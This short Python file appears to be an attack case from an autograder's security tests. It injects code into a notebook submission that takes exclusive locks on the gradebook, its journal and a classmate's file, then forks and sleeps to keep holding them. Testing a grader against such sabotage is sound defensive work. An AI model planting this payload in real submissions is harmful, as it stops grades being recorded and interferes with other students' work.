"""Locks the gradebook, so that nobody's grades can be written."""

from submissions import with_extra

NOTEBOOK = "5_posiciones"
MARKS = {}
STATUS = "graded"
ABSENT = "DID IT"
EXTRA = '''
import fcntl
import os

for path in ("{GRADEBOOK}", "{GRADEBOOK}-journal", "{CLASSMATE}"):
    try:
        fcntl.flock(open(path, "a"), fcntl.LOCK_EX)
        print("DID IT")
    except OSError as error:
        print(error)
os.fork() or [__import__("time").sleep(60)]
'''


def change(notebook):
    return with_extra(notebook, EXTRA)
